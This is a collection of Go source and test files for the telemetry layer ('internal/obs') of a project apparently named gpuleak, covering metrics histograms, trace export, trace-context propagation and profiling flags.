	if got := (BucketSeries{}).Quantile(0.99); got != 0 {
		t.Fatalf("empty series quantile = %v", got)
	}
	if _, ok := HistogramFromSnapshot(m.Snapshot(), "missing"); ok {
		t.Fatal("found a histogram that was never observed")
	}
}

func sortedAscending(xs []float64) bool {
	for i := 1; i < len(xs); i++ {
		if xs[i] < xs[i-1] {
			return false
		}
	}
	return true
}

// TestMergeSnapshots pins the fleet-merge aggregation rules: sums for
// counters and bucket series, min/max respected, means recomputed.
func TestMergeSnapshots(t *testing.T) {
	a := NewMetrics()
	a.Add("serve.eavesdrops", 3)
	a.Observe("lat", 2)
	a.Observe("lat", 4)
	b := NewMetrics()
	b.Add("serve.eavesdrops", 1)
	b.Observe("lat", 10)

	fleet := map[string]float64{}
	MergeSnapshots(fleet, a.Snapshot())
	MergeSnapshots(fleet, b.Snapshot())

	if fleet["serve.eavesdrops"] != 4 {
		t.Fatalf("counter merge: %v", fleet["serve.eavesdrops"])
	}
	if fleet["lat.count"] != 3 || fleet["lat.sum"] != 16 {
		t.Fatalf("histogram scalar merge: count=%v sum=%v", fleet["lat.count"], fleet["lat.sum"])
	}
	if fleet["lat.min"] != 2 || fleet["lat.max"] != 10 {
		t.Fatalf("min/max merge: min=%v max=%v", fleet["lat.min"], fleet["lat.max"])
	}
	if math.Abs(fleet["lat.mean"]-16.0/3) > 1e-12 {
		t.Fatalf("mean not recomputed from merged sum/count: %v", fleet["lat.mean"])
	}
	if fleet["lat_bucket_le_5"] != 2 || fleet["lat_bucket_le_10"] != 3 {
		t.Fatalf("bucket merge: le_5=%v le_10=%v", fleet["lat_bucket_le_5"], fleet["lat_bucket_le_10"])
	}
}
