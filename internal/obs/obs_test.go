package obs

import (
	"bytes"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"gpuleak/internal/sim"
)

// Test-local registered names (package-level, per the obsevent contract).
var (
	tnAlpha = NewName("test.alpha")
	tnBeta  = NewName("test.beta")
	tnSpan  = NewName("test.span")
	tnTask  = NewName("test.task")
)

// TestNilTracerIsSafe pins the disabled path: every method on a nil
// tracer, span, and metrics registry must be a no-op, because production
// code only guards the field-construction work, not the calls.
func TestNilTracerIsSafe(t *testing.T) {
	var tr *Tracer
	if tr.Enabled() {
		t.Fatal("nil tracer claims to be enabled")
	}
	tr.Emit(5*sim.Millisecond, tnAlpha, Str("k", "v"))
	sp := tr.Start(0, tnSpan)
	sp.End(sim.Second)
	sp.AddField(Num("x", 1))
	if c := tr.Child("sub"); c != nil {
		t.Fatal("nil tracer produced a live child")
	}
	if tr.Events() != nil || tr.Len() != 0 || tr.Track() != "" {
		t.Fatal("nil tracer holds events")
	}
	var m *Metrics
	m.Add("c", 1)
	m.Observe("h", 2)
	if m.Enabled() || m.Counter("c") != 0 || m.Snapshot() != nil || m.Names() != nil {
		t.Fatal("nil metrics registry recorded something")
	}
	if tr.Metrics() != nil {
		t.Fatal("nil tracer returned a live metrics registry")
	}
}

// TestSpanAndOrdering checks span durations, track stamping, and that
// Events() orders by timestamp with stable ties.
func TestSpanAndOrdering(t *testing.T) {
	tr := New()
	sp := tr.Start(10*sim.Millisecond, tnSpan, Str("what", "outer"))
	tr.Emit(30*sim.Millisecond, tnBeta)
	tr.Emit(20*sim.Millisecond, tnAlpha)
	sp.End(50 * sim.Millisecond)
	sp.AddField(Int("samples", 3))

	evs := tr.Events()
	if len(evs) != 3 {
		t.Fatalf("got %d events, want 3", len(evs))
	}
	if evs[0].Name != tnSpan || evs[0].Dur != 40*sim.Millisecond {
		t.Fatalf("span event wrong: %+v", evs[0])
	}
	if evs[1].Name != tnAlpha || evs[2].Name != tnBeta {
		t.Fatalf("events not time-ordered: %v %v", evs[1].Name, evs[2].Name)
	}
	for _, e := range evs {
		if e.Track != "main" {
			t.Fatalf("root event on track %q, want main", e.Track)
		}
	}
	if got := evs[0].Fields[len(evs[0].Fields)-1]; got.Key != "samples" || got.Num != 3 {
		t.Fatalf("AddField lost: %+v", evs[0].Fields)
	}
}

// TestChildTracks pins the track-naming scheme: top-level children drop
// the "main" prefix, nested children compose with "/".
func TestChildTracks(t *testing.T) {
	tr := New()
	c := tr.Child("exp/fig17")
	g := c.Child("trial/003")
	if c.Track() != "exp/fig17" {
		t.Fatalf("child track %q", c.Track())
	}
	if g.Track() != "exp/fig17/trial/003" {
		t.Fatalf("grandchild track %q", g.Track())
	}
	if c.Metrics() != tr.Metrics() || g.Metrics() != tr.Metrics() {
		t.Fatal("children do not share the root metrics registry")
	}
}

// TestMergeDeterministicAcrossWorkers is the layer's core guarantee: a
// fan-out over pre-created child tracers exports a byte-identical JSONL
// stream at any worker count, even though tasks run on racing goroutines.
func TestMergeDeterministicAcrossWorkers(t *testing.T) {
	stream := func(workers int) []byte {
		tr := New()
		const n = 24
		children := make([]*Tracer, n)
		for i := range children {
			children[i] = tr.Child(fmt.Sprintf("task/%03d", i))
		}
		// Inline work-stealing fan-out (the parallel package imports obs,
		// so the test reimplements its index-addressed loop to avoid the
		// import cycle while exercising the same racing-writer shape).
		var next atomic.Int64
		var wg sync.WaitGroup
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for {
					i := int(next.Add(1)) - 1
					if i >= n {
						return
					}
					sp := children[i].Start(sim.Time(i)*sim.Millisecond, tnTask, Int("task", i))
					children[i].Emit(sim.Time(i)*sim.Millisecond+500, tnAlpha, Int("task", i))
					sp.End(sim.Time(i+2) * sim.Millisecond)
					tr.Metrics().Add("tasks", 1)
				}
			}()
		}
		wg.Wait()
		var buf bytes.Buffer
		if err := WriteJSONL(&buf, tr.Events()); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	serial := stream(1)
	for _, w := range []int{4, 8} {
		if got := stream(w); !bytes.Equal(got, serial) {
			t.Fatalf("workers=%d stream differs from serial (%d vs %d bytes)", w, len(got), len(serial))
		}
	}
}

// TestMetricsSnapshot exercises counters and histogram summaries.
func TestMetricsSnapshot(t *testing.T) {
	m := NewMetrics()
	m.Add("reads", 3)
	m.Add("reads", 2)
	m.Observe("depth", 4)
	m.Observe("depth", 1)
	m.Observe("depth", 7)
	snap := m.Snapshot()
	if snap["reads"] != 5 {
		t.Fatalf("counter: %v", snap["reads"])
	}
	if snap["depth.count"] != 3 || snap["depth.sum"] != 12 || snap["depth.min"] != 1 || snap["depth.max"] != 7 {
		t.Fatalf("histogram summary wrong: %+v", snap)
	}
	if snap["depth.mean"] != 4 {
		t.Fatalf("histogram mean: %v", snap["depth.mean"])
	}
	if m.Counter("reads") != 5 {
		t.Fatalf("Counter accessor: %d", m.Counter("reads"))
	}
	want := []string{"depth", "reads"}
	got := m.Names()
	if len(got) != len(want) || got[0] != want[0] || got[1] != want[1] {
		t.Fatalf("Names: %v", got)
	}
}

// TestMetricsConcurrent hammers the registry from many goroutines; run
// with -race this doubles as the locking test.
func TestMetricsConcurrent(t *testing.T) {
	m := NewMetrics()
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				m.Add("n", 1)
				m.Observe("v", float64(i))
			}
		}()
	}
	wg.Wait()
	if m.Counter("n") != 4000 {
		t.Fatalf("lost counter increments: %d", m.Counter("n"))
	}
	if m.Snapshot()["v.count"] != 4000 {
		t.Fatalf("lost observations: %v", m.Snapshot()["v.count"])
	}
}

// TestNameRegistry checks duplicate registration panics and lookups.
func TestNameRegistry(t *testing.T) {
	if !Registered(tnAlpha) {
		t.Fatal("registered name not found")
	}
	if Registered(Name("test.never-registered")) {
		t.Fatal("unregistered name reported as registered")
	}
	defer func() {
		if recover() == nil {
			t.Fatal("duplicate NewName did not panic")
		}
	}()
	NewName("test.alpha")
}

// TestChromeTrace sanity-checks the Perfetto export: valid JSON shape,
// thread metadata for each track, X phases for spans.
func TestChromeTrace(t *testing.T) {
	tr := New()
	sp := tr.Start(sim.Millisecond, tnSpan)
	sp.End(3 * sim.Millisecond)
	tr.Child("task/000").Emit(2*sim.Millisecond, tnAlpha, Str("r", "a"))
	var buf bytes.Buffer
	if err := WriteChromeTrace(&buf, tr.Events()); err != nil {
		t.Fatal(err)
	}
	s := buf.String()
	for _, want := range []string{
		`"traceEvents":[`,
		`"ph":"M"`, `"name":"thread_name"`, `"name":"main"`, `"name":"task/000"`,
		`"ph":"X"`, `"dur":2000`,
		`"ph":"i"`, `"s":"t"`,
	} {
		if !strings.Contains(s, want) {
			t.Fatalf("chrome trace missing %s in:\n%s", want, s)
		}
	}
}
