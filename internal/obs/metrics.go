package obs

import (
	"fmt"
	"io"
	"sort"
	"strconv"
	"sync"
)

// DefaultBuckets are the fixed histogram bucket boundaries, shared by
// every histogram in the registry. Fixed global boundaries (rather than
// per-histogram config) keep snapshots pure functions of the observed
// values — two processes that observe the same samples emit the same
// bucket counts — which is what lets benchcmp's -metrics-only gate and
// gpuleakstat's fleet merge treat bucket series as deterministic data.
// The boundaries are tuned for sim-time latencies in milliseconds but
// apply to every histogram; an implicit +Inf bucket catches overflow.
var DefaultBuckets = []float64{
	1, 2.5, 5, 10, 25, 50, 100, 250, 500,
	1000, 2500, 5000, 10000, 30000, 60000,
}

// exemplar is the trace-correlated sample retained for one bucket: the
// largest value observed in that bucket, with the trace id that produced
// it. Ties break toward the lexicographically smaller trace id so the
// retained exemplar is a pure function of the observation set, never of
// arrival order.
type exemplar struct {
	v     float64
	trace string
}

// histogram is a streaming summary plus fixed-boundary bucket counts:
// count/sum/min/max for the bench report, per-bucket counts for RED
// latency analysis, and one exemplar per finite bucket for trace
// correlation. buckets has len(DefaultBuckets)+1 entries; the last is
// the +Inf overflow bucket.
type histogram struct {
	count    int64
	sum      float64
	min, max float64
	buckets  []int64
	ex       []exemplar
}

// bucketIndex returns the index of the bucket v falls into: the first
// boundary >= v, or the overflow index len(DefaultBuckets).
func bucketIndex(v float64) int {
	for i, b := range DefaultBuckets {
		if v <= b {
			return i
		}
	}
	return len(DefaultBuckets)
}

// bucketLabel renders one boundary the way snapshot keys and prom `le`
// labels spell it ("2.5", "1000").
func bucketLabel(b float64) string {
	return strconv.FormatFloat(b, 'g', -1, 64)
}

// Metrics is the counters/histograms registry. One registry is shared by
// a tracer and all of its children, and by design every operation is an
// order-independent aggregation (sums, counts, min/max, bucket counts;
// exemplar ties break by value then trace id), so concurrent workers
// never make a snapshot scheduling-dependent. A nil *Metrics is disabled
// and every method no-ops.
type Metrics struct {
	mu    sync.Mutex
	count map[string]int64
	hist  map[string]*histogram
}

// NewMetrics creates an empty registry.
func NewMetrics() *Metrics {
	return &Metrics{count: map[string]int64{}, hist: map[string]*histogram{}}
}

// Enabled reports whether the registry records anything.
func (m *Metrics) Enabled() bool { return m != nil }

// Add increments a named counter.
func (m *Metrics) Add(name string, delta int64) {
	if m == nil {
		return
	}
	m.mu.Lock()
	m.count[name] += delta
	m.mu.Unlock()
}

// Observe records one sample into a named histogram.
func (m *Metrics) Observe(name string, v float64) {
	m.ObserveExemplar(name, v, "")
}

// ObserveExemplar records one sample and, when trace is non-empty,
// offers it as the exemplar for the bucket it falls into. A bucket keeps
// the largest sample seen (ties: smaller trace id), so the exposed
// exemplar points at the trace of the bucket's worst latency.
func (m *Metrics) ObserveExemplar(name string, v float64, trace string) {
	if m == nil {
		return
	}
	m.mu.Lock()
	h := m.hist[name]
	if h == nil {
		h = &histogram{
			min:     v,
			max:     v,
			buckets: make([]int64, len(DefaultBuckets)+1),
			ex:      make([]exemplar, len(DefaultBuckets)),
		}
		m.hist[name] = h
	}
	h.count++
	h.sum += v
	if v < h.min {
		h.min = v
	}
	if v > h.max {
		h.max = v
	}
	i := bucketIndex(v)
	h.buckets[i]++
	if trace != "" && i < len(h.ex) {
		e := &h.ex[i]
		if e.trace == "" || v > e.v || (v == e.v && trace < e.trace) {
			e.v, e.trace = v, trace
		}
	}
	m.mu.Unlock()
}

// Counter reads one counter's current value.
func (m *Metrics) Counter(name string) int64 {
	if m == nil {
		return 0
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.count[name]
}

// Snapshot flattens the registry into a sorted-key map: counters under
// their own name, histograms under <name>.count/.sum/.mean/.min/.max
// plus one cumulative bucket series <name>_bucket_le_<boundary> (count
// of samples <= boundary; the +Inf bucket is <name>.count itself). The
// map is what benchpaper -json embeds in the gpuleak-bench/v1 report, so
// the bucket series sits under the same determinism gate as the scalars.
func (m *Metrics) Snapshot() map[string]float64 {
	if m == nil {
		return nil
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make(map[string]float64, len(m.count)+(5+len(DefaultBuckets))*len(m.hist))
	for k, v := range m.count {
		out[k] = float64(v)
	}
	for k, h := range m.hist {
		out[k+".count"] = float64(h.count)
		out[k+".sum"] = h.sum
		if h.count > 0 {
			out[k+".mean"] = h.sum / float64(h.count)
		}
		out[k+".min"] = h.min
		out[k+".max"] = h.max
		cum := int64(0)
		for i, b := range DefaultBuckets {
			cum += h.buckets[i]
			out[k+"_bucket_le_"+bucketLabel(b)] = float64(cum)
		}
	}
	return out
}

// WriteJSON renders the Snapshot as one sorted-key JSON object, so two
// snapshots of identical registries are byte-identical regardless of map
// iteration order. This is the /metrics wire format of the serving layer.
func (m *Metrics) WriteJSON(w io.Writer) error {
	return WriteSnapshotJSON(w, m.Snapshot())
}

// WriteSnapshotJSON renders any snapshot-shaped map (metric name → value)
// as one sorted-key JSON object; callers may fold extra gauges into a
// Snapshot before rendering.
func WriteSnapshotJSON(w io.Writer, snap map[string]float64) error {
	keys := make([]string, 0, len(snap))
	for k := range snap {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	if _, err := io.WriteString(w, "{"); err != nil {
		return err
	}
	for i, k := range keys {
		sep := ","
		if i == 0 {
			sep = ""
		}
		if _, err := fmt.Fprintf(w, "%s\n  %q: %s", sep, k,
			strconv.FormatFloat(snap[k], 'g', -1, 64)); err != nil {
			return err
		}
	}
	_, err := io.WriteString(w, "\n}\n")
	return err
}

// Names returns every metric name (counters and histograms), sorted.
func (m *Metrics) Names() []string {
	if m == nil {
		return nil
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]string, 0, len(m.count)+len(m.hist))
	for k := range m.count {
		out = append(out, k)
	}
	for k := range m.hist {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
