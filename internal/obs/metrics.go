package obs

import (
	"fmt"
	"io"
	"sort"
	"strconv"
	"sync"
)

// histogram is a streaming summary: count/sum/min/max (enough for the
// bench report; full bucketing would bloat the snapshot for no consumer).
type histogram struct {
	count    int64
	sum      float64
	min, max float64
}

// Metrics is the counters/histograms registry. One registry is shared by
// a tracer and all of its children, and by design every operation is an
// order-independent aggregation (sums, counts, min/max), so concurrent
// workers never make a snapshot scheduling-dependent. A nil *Metrics is
// disabled and every method no-ops.
type Metrics struct {
	mu    sync.Mutex
	count map[string]int64
	hist  map[string]*histogram
}

// NewMetrics creates an empty registry.
func NewMetrics() *Metrics {
	return &Metrics{count: map[string]int64{}, hist: map[string]*histogram{}}
}

// Enabled reports whether the registry records anything.
func (m *Metrics) Enabled() bool { return m != nil }

// Add increments a named counter.
func (m *Metrics) Add(name string, delta int64) {
	if m == nil {
		return
	}
	m.mu.Lock()
	m.count[name] += delta
	m.mu.Unlock()
}

// Observe records one sample into a named histogram.
func (m *Metrics) Observe(name string, v float64) {
	if m == nil {
		return
	}
	m.mu.Lock()
	h := m.hist[name]
	if h == nil {
		h = &histogram{min: v, max: v}
		m.hist[name] = h
	}
	h.count++
	h.sum += v
	if v < h.min {
		h.min = v
	}
	if v > h.max {
		h.max = v
	}
	m.mu.Unlock()
}

// Counter reads one counter's current value.
func (m *Metrics) Counter(name string) int64 {
	if m == nil {
		return 0
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.count[name]
}

// Snapshot flattens the registry into a sorted-key map: counters under
// their own name, histograms under <name>.count/.sum/.mean/.min/.max.
// The map is what benchpaper -json embeds in the gpuleak-bench/v1 report.
func (m *Metrics) Snapshot() map[string]float64 {
	if m == nil {
		return nil
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make(map[string]float64, len(m.count)+5*len(m.hist))
	for k, v := range m.count {
		out[k] = float64(v)
	}
	for k, h := range m.hist {
		out[k+".count"] = float64(h.count)
		out[k+".sum"] = h.sum
		if h.count > 0 {
			out[k+".mean"] = h.sum / float64(h.count)
		}
		out[k+".min"] = h.min
		out[k+".max"] = h.max
	}
	return out
}

// WriteJSON renders the Snapshot as one sorted-key JSON object, so two
// snapshots of identical registries are byte-identical regardless of map
// iteration order. This is the /metrics wire format of the serving layer.
func (m *Metrics) WriteJSON(w io.Writer) error {
	return WriteSnapshotJSON(w, m.Snapshot())
}

// WriteSnapshotJSON renders any snapshot-shaped map (metric name → value)
// as one sorted-key JSON object; callers may fold extra gauges into a
// Snapshot before rendering.
func WriteSnapshotJSON(w io.Writer, snap map[string]float64) error {
	keys := make([]string, 0, len(snap))
	for k := range snap {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	if _, err := io.WriteString(w, "{"); err != nil {
		return err
	}
	for i, k := range keys {
		sep := ","
		if i == 0 {
			sep = ""
		}
		if _, err := fmt.Fprintf(w, "%s\n  %q: %s", sep, k,
			strconv.FormatFloat(snap[k], 'g', -1, 64)); err != nil {
			return err
		}
	}
	_, err := io.WriteString(w, "\n}\n")
	return err
}

// Names returns every metric name (counters and histograms), sorted.
func (m *Metrics) Names() []string {
	if m == nil {
		return nil
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]string, 0, len(m.count)+len(m.hist))
	for k := range m.count {
		out = append(out, k)
	}
	for k := range m.hist {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
