package obs

import (
	"bytes"
	"strings"
	"testing"

	"gpuleak/internal/sim"
)

func sampleEvents() []Event {
	return []Event{
		{At: 0, Dur: 2 * sim.Millisecond, Name: tnSpan, Track: "main",
			Fields: []Field{Num("n", 3), Str("what", "warmup")}},
		{At: 1500, Name: tnAlpha, Track: "task/001",
			Fields: []Field{Str("r", "a"), Num("dist", 1.25)}},
		{At: 2500, Name: tnBeta, Track: "task/001"},
	}
}

// TestJSONLRoundTrip pins the canonical-serialization property: a parsed
// stream re-serializes byte-identically (attrs are written key-sorted).
func TestJSONLRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteJSONL(&buf, sampleEvents()); err != nil {
		t.Fatal(err)
	}
	first := buf.String()
	evs, err := ReadJSONL(strings.NewReader(first))
	if err != nil {
		t.Fatal(err)
	}
	if len(evs) != 3 {
		t.Fatalf("parsed %d events, want 3", len(evs))
	}
	if evs[0].Dur != 2*sim.Millisecond || evs[1].Track != "task/001" {
		t.Fatalf("parse mangled events: %+v", evs[:2])
	}
	var buf2 bytes.Buffer
	if err := WriteJSONL(&buf2, evs); err != nil {
		t.Fatal(err)
	}
	if buf2.String() != first {
		t.Fatalf("round trip not canonical:\n%s\nvs\n%s", first, buf2.String())
	}
}

// TestJSONLRejectsGarbage pins the error paths the fuzzer also explores.
func TestJSONLRejectsGarbage(t *testing.T) {
	for _, doc := range []string{
		"not json\n",
		`{"seq":0,"at_us":1,"track":"x"}` + "\n", // no name
		`{"seq":0,"at_us":1,"dur_us":-5,"name":"a","track":"x"}` + "\n",           // negative span
		`{"seq":0,"at_us":1,"name":"a","track":"x","attrs":{"b":true}}` + "\n",    // bool attr
		`{"seq":0,"at_us":1,"name":"a","track":"x","attrs":{"b":{"c":1}}}` + "\n", // nested attr
		`{"seq":0,"at_us":1,"name":"a","track":"x","attrs":{"b":[1]}}` + "\n",     // array attr
		`{"seq":0,"at_us":1,"name":"a","track":"x","attrs":{"b":null}}` + "\n",    // null attr
		`{"seq":0,"at_us":"soon","name":"a","track":"x"}` + "\n",                  // string timestamp
	} {
		if _, err := ReadJSONL(strings.NewReader(doc)); err == nil {
			t.Errorf("ReadJSONL accepted %q", doc)
		}
	}
	// Blank lines are tolerated (hand-edited files, trailing newlines).
	evs, err := ReadJSONL(strings.NewReader("\n\n"))
	if err != nil || len(evs) != 0 {
		t.Fatalf("blank-only stream: %v, %d events", err, len(evs))
	}
}
