package obs

import (
	"flag"
	"fmt"
	"os"
	"runtime"
	"runtime/pprof"
)

// Flags bundles the standard telemetry and profiling knobs every command
// in this repo exposes, so attackd, collect and benchpaper wire the layer
// identically:
//
//	-telemetry out.jsonl            (sim-time event stream)
//	-telemetry-format jsonl|chrome  (chrome = Perfetto-loadable)
//	-cpuprofile / -memprofile       (opt-in pprof dumps)
type Flags struct {
	Path    string
	Format  string
	CPUProf string
	MemProf string
}

// Register installs the flags on a FlagSet (flag.CommandLine in main).
func (fl *Flags) Register(fs *flag.FlagSet) {
	fs.StringVar(&fl.Path, "telemetry", "", "write the deterministic sim-time telemetry stream to this file")
	fs.StringVar(&fl.Format, "telemetry-format", "jsonl", "telemetry format: jsonl or chrome (Perfetto-loadable trace)")
	fs.StringVar(&fl.CPUProf, "cpuprofile", "", "write a CPU profile to this file")
	fs.StringVar(&fl.MemProf, "memprofile", "", "write a heap profile to this file on exit")
}

// Tracer returns a live tracer when -telemetry was given, nil otherwise —
// the nil tracer is the zero-cost disabled path.
func (fl *Flags) Tracer() *Tracer {
	if fl.Path == "" {
		return nil
	}
	return New()
}

// StartProfiles begins CPU profiling if requested and returns a stop
// function that finishes the CPU profile and dumps the heap profile; call
// it (once) before exiting.
func (fl *Flags) StartProfiles() (stop func() error, err error) {
	var cpu *os.File
	if fl.CPUProf != "" {
		cpu, err = os.Create(fl.CPUProf)
		if err != nil {
			return nil, err
		}
		if err := pprof.StartCPUProfile(cpu); err != nil {
			cpu.Close()
			return nil, err
		}
	}
	return func() error {
		if cpu != nil {
			pprof.StopCPUProfile()
			if err := cpu.Close(); err != nil {
				return err
			}
		}
		if fl.MemProf != "" {
			f, err := os.Create(fl.MemProf)
			if err != nil {
				return err
			}
			runtime.GC()
			if err := pprof.WriteHeapProfile(f); err != nil {
				f.Close()
				return err
			}
			return f.Close()
		}
		return nil
	}, nil
}

// Write exports a tracer's merged event stream to the configured path in
// the configured format. A nil tracer (telemetry disabled) is a no-op.
func (fl *Flags) Write(tr *Tracer) error {
	if tr == nil || fl.Path == "" {
		return nil
	}
	f, err := os.Create(fl.Path)
	if err != nil {
		return err
	}
	evs := tr.Events()
	switch fl.Format {
	case "", "jsonl":
		err = WriteJSONL(f, evs)
	case "chrome":
		err = WriteChromeTrace(f, evs)
	default:
		err = fmt.Errorf("obs: unknown telemetry format %q (want jsonl or chrome)", fl.Format)
	}
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	return err
}
