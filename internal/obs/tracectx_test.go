package obs

import (
	"context"
	"testing"

	"gpuleak/internal/sim"
)

// TestNewTraceDeterministic pins the property the whole propagation
// design rests on: minting from the same seed yields the same ids on any
// process, and different seeds diverge.
func TestNewTraceDeterministic(t *testing.T) {
	a, b := NewTrace(7), NewTrace(7)
	if a != b {
		t.Fatalf("NewTrace(7) not stable: %+v vs %+v", a, b)
	}
	if !a.Valid() {
		t.Fatalf("NewTrace(7) invalid: %+v", a)
	}
	if c := NewTrace(8); c.TraceID == a.TraceID {
		t.Fatalf("seeds 7 and 8 share trace id %s", c.TraceID)
	}
	if (TraceContext{}).Valid() {
		t.Fatal("zero TraceContext reports Valid")
	}
}

// TestTraceparentRoundTrip pins the wire format both ways.
func TestTraceparentRoundTrip(t *testing.T) {
	tc := NewTrace(42)
	hdr := tc.Traceparent()
	if len(hdr) != 55 {
		t.Fatalf("traceparent %q has length %d, want 55", hdr, len(hdr))
	}
	got, ok := ParseTraceparent(hdr)
	if !ok {
		t.Fatalf("ParseTraceparent(%q) rejected its own rendering", hdr)
	}
	if got.TraceID != tc.TraceID || got.SpanID != tc.SpanID {
		t.Fatalf("round trip lost ids: %+v vs %+v", got, tc)
	}
	if !got.Remote {
		t.Fatal("parsed context not marked Remote")
	}
	if got.Local().Remote || got.Child(NewName("tracectx.test.hop"), 0).Remote {
		t.Fatal("Local/Child failed to clear the Remote mark")
	}

	bad := []string{
		"",
		"00-abc-def-01",
		"01-0123456789abcdef0123456789abcdef-0123456789abcdef-01", // wrong version
		"00-00000000000000000000000000000000-0123456789abcdef-01", // zero trace id
		"00-0123456789abcdef0123456789abcdef-0000000000000000-01", // zero span id
		"00-0123456789ABCDEF0123456789abcdef-0123456789abcdef-01", // uppercase hex
		"00-0123456789abcdef0123456789abcdef-0123456789abcdef-0g",
	}
	for _, s := range bad {
		if _, ok := ParseTraceparent(s); ok {
			t.Errorf("ParseTraceparent accepted %q", s)
		}
	}
}

// TestChildSpanDerivation pins that child span ids are pure functions of
// (trace, parent, name, at) — same inputs agree, any input change
// diverges — and that the parent link is recorded.
func TestChildSpanDerivation(t *testing.T) {
	root := NewTrace(7)
	n1 := NewName("tracectx.test.op1")
	n2 := NewName("tracectx.test.op2")

	a := root.Child(n1, 100*sim.Millisecond)
	b := root.Child(n1, 100*sim.Millisecond)
	if a != b {
		t.Fatalf("child derivation not stable: %+v vs %+v", a, b)
	}
	if a.TraceID != root.TraceID {
		t.Fatalf("child changed trace id: %s", a.TraceID)
	}
	if a.ParentID != root.SpanID {
		t.Fatalf("child parent %s, want %s", a.ParentID, root.SpanID)
	}
	if c := root.Child(n2, 100*sim.Millisecond); c.SpanID == a.SpanID {
		t.Fatal("different names share a span id")
	}
	if c := root.Child(n1, 200*sim.Millisecond); c.SpanID == a.SpanID {
		t.Fatal("different timestamps share a span id")
	}
	if c := a.Child(n1, 100*sim.Millisecond); c.SpanID == a.SpanID {
		t.Fatal("different parents share a span id")
	}
}

// TestTraceContextCarrier pins the context.Context plumbing.
func TestTraceContextCarrier(t *testing.T) {
	if _, ok := TraceContextFrom(context.Background()); ok {
		t.Fatal("empty context reports a trace")
	}
	tc := NewTrace(7)
	ctx := WithTraceContext(context.Background(), tc)
	got, ok := TraceContextFrom(ctx)
	if !ok || got != tc {
		t.Fatalf("TraceContextFrom = %+v, %v; want %+v, true", got, ok, tc)
	}
	// An invalid context attached upstream must not report ok.
	if _, ok := TraceContextFrom(WithTraceContext(context.Background(), TraceContext{})); ok {
		t.Fatal("invalid trace context reports ok")
	}
}

// TestTraceFieldsAndTrack pins the correlation surface span events carry.
func TestTraceFieldsAndTrack(t *testing.T) {
	root := NewTrace(7)
	if got, want := root.Track(), "trace/"+root.TraceID; got != want {
		t.Fatalf("Track = %q, want %q", got, want)
	}
	f := root.Fields()
	if len(f) != 2 || f[0].Key != "trace_id" || f[1].Key != "span_id" {
		t.Fatalf("root fields = %+v", f)
	}
	child := root.Child(NewName("tracectx.test.fields"), 0)
	cf := child.Fields()
	if len(cf) != 3 || cf[2].Key != "parent_id" || cf[2].Str != root.SpanID {
		t.Fatalf("child fields = %+v", cf)
	}
}
