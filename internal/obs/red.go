package obs

import (
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"
)

// MetricsSchema identifies the gpuleak-metrics/v1 report: the merged
// fleet aggregate gpuleakstat emits after scraping router + replicas.
const MetricsSchema = "gpuleak-metrics/v1"

// PromContentType is the Content-Type of the ?format=prom rendering of
// /metrics (the Prometheus text exposition version).
const PromContentType = "text/plain; version=0.0.4; charset=utf-8"

// MetricsReport is the gpuleak-metrics/v1 document: per-target raw
// snapshots, the fleet-merged snapshot, per-endpoint RED rollups, and
// the results of any -check thresholds evaluated against them.
type MetricsReport struct {
	Schema  string                `json:"schema"`
	Targets []TargetMetrics       `json:"targets"`
	Fleet   map[string]float64    `json:"fleet"`
	RED     map[string]REDSummary `json:"red,omitempty"`
	Checks  []CheckResult         `json:"checks,omitempty"`
	Pass    bool                  `json:"pass"`
}

// TargetMetrics is one scraped process: its /metrics snapshot plus the
// health probe outcome.
type TargetMetrics struct {
	URL     string             `json:"url"`
	Role    string             `json:"role"`
	Healthy bool               `json:"healthy"`
	Error   string             `json:"error,omitempty"`
	Metrics map[string]float64 `json:"metrics,omitempty"`
}

// REDSummary is the request/error/duration rollup for one endpoint (or
// the whole fleet): request and error counts with the derived rate, and
// latency quantiles estimated from the cumulative bucket series. All
// durations are simulated milliseconds — the serving stack is
// wall-clock-free by policy.
type REDSummary struct {
	Requests  float64 `json:"requests"`
	Errors    float64 `json:"errors"`
	ErrorRate float64 `json:"error_rate"`
	P50MS     float64 `json:"p50_ms,omitempty"`
	P90MS     float64 `json:"p90_ms,omitempty"`
	P99MS     float64 `json:"p99_ms,omitempty"`
	MaxMS     float64 `json:"max_ms,omitempty"`
}

// CheckResult is one -check threshold evaluation.
type CheckResult struct {
	Name  string  `json:"name"`
	Value float64 `json:"value"`
	Limit float64 `json:"limit"`
	Pass  bool    `json:"pass"`
}

// BucketSeries is one histogram's cumulative bucket view, reconstructed
// from the flat snapshot keys a /metrics scrape returns.
type BucketSeries struct {
	Bounds []float64 // finite boundaries, ascending
	Cum    []float64 // cumulative count of samples <= the boundary
	Count  float64   // total sample count (the implicit +Inf bucket)
}

// snapshotBucketSep is the infix Snapshot uses for bucket keys:
// <hist-name>_bucket_le_<boundary>.
const snapshotBucketSep = "_bucket_le_"

// HistogramFromSnapshot reassembles the named histogram's cumulative
// bucket series from a flat snapshot map; ok is false when the snapshot
// holds no such histogram.
func HistogramFromSnapshot(snap map[string]float64, name string) (BucketSeries, bool) {
	count, ok := snap[name+".count"]
	if !ok {
		return BucketSeries{}, false
	}
	bs := BucketSeries{Count: count}
	prefix := name + snapshotBucketSep
	for k, v := range snap {
		if !strings.HasPrefix(k, prefix) {
			continue
		}
		b, err := strconv.ParseFloat(k[len(prefix):], 64)
		if err != nil {
			continue
		}
		bs.Bounds = append(bs.Bounds, b)
		bs.Cum = append(bs.Cum, v)
	}
	sort.Sort(&bucketSort{&bs})
	return bs, true
}

